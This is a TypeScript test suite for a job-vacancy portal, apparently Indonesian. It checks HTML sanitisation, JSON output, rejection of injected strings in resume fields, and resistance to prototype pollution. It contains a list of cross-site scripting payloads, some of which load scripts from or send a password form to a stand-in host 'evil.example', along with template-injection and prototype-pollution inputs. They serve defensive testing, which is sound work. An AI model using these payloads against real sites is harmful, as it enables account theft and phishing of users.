import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { aVacancy, storeVacancies } from "../support/vacancies.ts";
import { emptyPortal, type WholePortal } from "../wire/whole-portal.ts";

let portal: WholePortal;
beforeAll(async () => {
  portal = await emptyPortal();
});
afterAll(() => portal.platform.close());

const hostileHtml = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" target="_blank">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password></form>',
  "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<style>@import '//evil.example'</style><link rel=stylesheet href=//evil.example><base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<p style='background:url(//evil.example)'>x</p>",
  "<object data=//evil.example></object><embed src=//evil.example>",
  "<xmp><script>alert(1)</script></xmp><textarea><script>alert(1)</script></textarea>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)//",
  '[x](javascript:alert(1)) ![x](x "onerror=alert(1)") <javascript:alert(1)>',
  "<details open ontoggle=alert(1)>x</details>",
  "<!--><script>alert(1)</script-->",
  "<template><script>alert(1)</script></template>",
];

async function detailOf(id: number) {
  const { json } = await portal.send({ path: `lowongan-detail/${id}/id`, token: portal.guest });
  return json["data"];
}

/** Every tag and attribute that is left, and nothing else. */
function tagsOf(html: string): string[] {
  return [...html.matchAll(/<\/?([a-z0-9]+)([^<>]*)>/gi)].map(([, tag = "", rest = ""]) => tag.toLowerCase() + rest);
}

const harmless =
  /^(h[345]|p|br|ul|ol|li|strong|em|blockquote|a( href="(https?|mailto):[^"]*")?( rel="nofollow noopener")?)( \/)?$/;

describe("HTML that is imported", () => {
  test.each(hostileHtml)("%s leaves text, headings, lists and links", async (html) => {
    const [id = 0] = await storeVacancies(portal.platform.database, [
      aVacancy({
        descriptionId: html,
        descriptionEn: `<p>x</p>${html}`,
        requirementId: `- ${html}`,
        requirementEn: html,
      }),
    ]);
    const detail = await detailOf(id);
    expect(detail).toMatchObject({ description: expect.any(String), requirement: expect.any(String) });
    const texts = Object.entries(Object(detail)).flatMap(([name, value]) =>
      name === "description" || name === "requirement" ? [String(value)] : [],
    );
    for (const text of texts) {
      expect(tagsOf(text).filter((tag) => !harmless.test(tag))).toEqual([]);
      expect(text).not.toMatch(/<(script|style|iframe|img|svg|object|form|meta|base|link)\b/i);
    }
  });

  test("is made safe on the way out too, should it have come in another way", async () => {
    const { database } = portal.platform;
    const [id = 0] = await storeVacancies(database, [aVacancy()]);
    const hostile = "<p>baik</p><script>alert(1)</script>";
    await database.db
      .updateTable("vacancies")
      .set({ description_id: hostile, requirement_id: hostile })
      .where("id", "=", id)
      .execute();
    expect(await detailOf(id)).toMatchObject({ description: "<p>baik</p>", requirement: "<p>baik</p>" });
  });
});

describe("text that looks like HTML", () => {
  test("stays the text that it is, in titles and names", async () => {
    const hostile = "Analis </script><script>alert(1)</script> & <b>Data</b>";
    const [id = 0] = await storeVacancies(portal.platform.database, [
      aVacancy({ titleId: hostile, company: `PT ${hostile}`, places: ["<img src=x>"] }),
    ]);
    expect(await detailOf(id)).toMatchObject({
      title: hostile,
      companyName: `PT ${hostile}`,
      locations: ["<img src=x>"],
    });
  });

  test("travels as JSON that no browser takes for a page", async () => {
    const { headers } = await portal.send({ path: "company-list/id", token: portal.guest });
    expect(headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(headers.get("x-content-type-options")).toBe("nosniff");
  });

  test.each(["<script>alert(1)</script>", "{{constructor.constructor('x')()}}", "$(id)", "%{7*7}", "\u202emoc.live"])(
    "%s is no answer to a free field of the resume, and the refusal does not repeat it",
    async (text) => {
      const { owner, send, captcha } = portal;
      const data = { personalData: { nama: text, domisiliOther: text }, version: 0 };
      const form = new FormData();
      form.set("data", JSON.stringify(data));
      form.set("grecaptcha", await captcha());
      const came = await send({ path: "form/update-profile", token: owner.token, body: form });
      expect(came.http).toBe(422);
      expect(came.text).not.toContain(JSON.stringify(text).slice(1, -1));
    },
  );

  test("is kept in a draft as it was typed, and answered as JSON", async () => {
    const { owner, send } = portal;
    const data = { "<b>": "</script><script>alert(1)</script>", __proto__x: { constructor: { prototype: { a: 1 } } } };
    const draft = { method: "PUT", path: "form/draft/resume", token: owner.token };
    await send({ ...draft, body: { data, version: 0 } });
    const { json } = await send({ path: "form/draft/resume", token: owner.token });
    expect(json).toMatchObject({ data: { data } });
  });
});

describe("names that reach for prototypes", () => {
  test.each(["__proto__", "constructor", "prototype", "toString", "hasOwnProperty"])(
    "%s stays a name",
    async (name) => {
      const { owner, send } = portal;
      const hostile = `{"${name}":{"isAdmin":true,"lang":"en","polluted":"yes"},"BranchId":[],"data":{"${name}":{"polluted":1}},"version":0}`;
      const headers = { "content-type": "application/json" };
      for (const path of ["lowongan-page/id", "form/update-profile", "Application/list/id", "login"]) {
        expect((await send({ path, token: owner.token, headers, body: hostile })).http).toBeLessThan(500);
      }
      const form = new FormData();
      form.append("data", hostile);
      form.append(name, "x");
      const { json } = await send({ path: "form/update-profile", token: owner.token, body: form });
      expect(json).toMatchObject({ acknowledge: 0, code: "captcha" });
      expect(Reflect.get({}, "polluted")).toBeUndefined();
      expect(Reflect.get({}, "isAdmin")).toBeUndefined();
    },
  );
});
